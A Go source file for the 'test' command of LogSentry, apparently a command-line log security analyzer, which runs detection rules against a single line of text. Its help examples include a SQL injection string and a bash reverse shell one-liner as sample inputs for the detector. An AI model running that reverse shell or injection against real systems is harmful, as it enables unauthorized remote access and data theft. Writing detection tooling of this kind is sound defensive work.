package cmd

import (
	"fmt"
	"strings"

	"github.com/spf13/cobra"

	"github.com/cypher02301/LogSentry-CLI-Security-Analyzer/internal/model"
	"github.com/cypher02301/LogSentry-CLI-Security-Analyzer/internal/output"
)

var testCmd = &cobra.Command{
	Use:   "test TEXT",
	Short: "Run the active rules against one line of text",
	Long: `Parse a single line and list every rule it triggers. Useful when writing
custom rules. Correlation rules count across many lines and do not fire here.

Examples:
  logsentry test "GET /index.php?id=1' OR '1'='1 HTTP/1.1"
  logsentry test "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" --output json
  logsentry test "..." --rules custom.yaml`,
	Args: cobra.ExactArgs(1),
	RunE: runTest,
}

func init() {
	rootCmd.AddCommand(testCmd)
}

// testOutput is the JSON document written by test.
type testOutput struct {
	Input      string            `json:"input"`
	Format     string            `json:"format"`
	Detections []model.Detection `json:"detections"`
}

func runTest(cmd *cobra.Command, args []string) error {
	text := args[0]
	if strings.TrimSpace(text) == "" {
		return fmt.Errorf("no text to test")
	}
	e, catalog, err := newEngine(nil)
	if err != nil {
		return err
	}

	rec, dets := e.Inspect(text)
	if settings.Output == "json" {
		return output.WriteJSON(cmd.OutOrStdout(), testOutput{Input: text, Format: rec.Format, Detections: dets})
	}
	fmt.Fprintf(cmd.OutOrStdout(), "Input:  %s\nFormat: %s\n\n", output.Clip(text, 120), rec.Format)
	return output.WriteMatches(cmd.OutOrStdout(), dets, catalog)
}
